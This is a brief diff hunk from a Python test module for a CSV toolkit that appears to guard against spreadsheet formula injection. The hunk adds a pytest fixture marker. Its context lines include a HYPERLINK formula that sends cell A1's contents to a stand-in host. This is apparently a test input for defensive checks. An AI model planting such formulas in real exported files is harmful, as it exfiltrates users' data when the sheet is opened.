@@ -17,6 +17,8 @@ from toolkit.batch.result import BatchResult, CellResult
 from toolkit.store import embedded
 from toolkit.table_files import csv_bytes, csv_text, frame_of_csv, guard, read_rows, unguard
 
+pytestmark = pytest.mark.usefixtures("no_pictures")
+
 PACKAGE = Path(__file__).parents[2] / "toolkit"
 LINK = '=HYPERLINK("http://x/?"&A1,"open")'
 HOSTILE = (
